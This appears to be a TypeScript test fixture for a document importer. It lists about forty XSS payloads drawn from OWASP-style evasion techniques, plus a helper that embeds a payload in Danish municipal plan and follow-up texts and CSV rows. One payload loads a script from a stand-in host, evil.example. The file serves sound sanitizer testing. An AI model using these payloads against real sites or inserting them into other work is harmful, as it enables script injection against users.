/**
 * Hostile HTML for tests of every rich-text path: the classic vectors of the OWASP XSS filter
 * evasion cheat sheet and HTML5 security research, in the shapes a document cell could carry.
 */
export const xssPayloads: readonly string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<IMG SRC=\"javascript:alert('XSS');\">",
  "<img src=`javascript:alert(1)`>",
  '<a href="javascript:alert(1)">klik</a>',
  '<a href="JaVaScRiPt:alert(1)">klik</a>',
  '<a href="jav&#x09;ascript:alert(1)">klik</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<body onload=alert(1)>",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<p style="background:url(javascript:alert(1))">tekst</p>',
  "<style>@import 'javascript:alert(1)';</style>",
  '<div onmouseover="alert(1)">hover</div>',
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<script>script>alert(1)<</script>/script>",
  '<p title="</p><script>alert(1)</script>">x</p>',
  "<!--<img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  '<input autofocus onfocus="alert(1)">',
  '<details open ontoggle="alert(1)">',
  '<form action="javascript:alert(1)"><button>send</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<video><source onerror="alert(1)"></video>',
  '<ul><li onclick="alert(1)">punkt</li></ul>',
  "<strong onmouseover=alert(1)>fed</strong>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><script>alert(1)</script></template>",
  '"><script>alert(1)</script>',
  "<img src=x onerror=alert(1)//",
  "<script",
];

/**
 * Documents that carry `payload` in every cell an importer reads, one per text format, so every
 * rich-text path (import, then render) can be tested with the same hostile input.
 *
 * @example
 * importFollowUpText(hostileDocuments("<script>alert(1)</script>").followUpText, { year: 2017 });
 */
export function hostileDocuments(payload: string) {
  const csvField = `"${payload.replace(/"/g, '""')}"`;
  return {
    /** A follow-up with the payload in the description, responsibility, milestone and economy. */
    followUpText: [
      "Opfølgning",
      "",
      "5. Afsnit",
      "",
      "5.01. Indsats\tKort beskrivelse af indsatsen (drift)\tTid\tSmiley",
      `${payload}\tAnsvarligt center: ${payload} Ansvarligt udvalg: Økonomiudvalget`,
      `Milepæl\t${payload}\t1. budgetopfølgning 2017\t☺`,
      `Økonomi\t${payload}\t\t☺`,
    ].join("\n"),
    /** A plan with the payload in its table's cells and in a programme track. */
    planText: [
      "Plan",
      "",
      "Dato\tTema\tAktivitet\tMålgruppe",
      `8. maj 2017\t${payload}\tMøde ${payload}\t${payload}`,
      "",
      "## Ad 1) Spor",
      `- **${payload}:** ${payload} (8. maj 2017)`,
    ].join("\n"),
    /** A plan's CSV row with the payload in the activity, description and target group. */
    planCsv: `Dato;Aktivitet;Beskrivelse;Målgruppe\r\n8. maj 2017;${csvField};${csvField};${csvField}\r\n`,
    /** A follow-up's milestone row (as Excel keeps it) with the payload in every text column. */
    followUpCsv: [
      "Afsnit;Nr.;Indsats;Ansvarligt center;Beskrivelse;Noter;Runde;Milepæl;Milepæl: statusnote;Milepæl: status;Økonomi;Økonomi: status",
      `Afsnit;5.01;${csvField};${csvField};${csvField};${csvField};2017-1;${csvField};${csvField};Grøn;${csvField};Grøn`,
      "",
    ].join("\r\n"),
  };
}
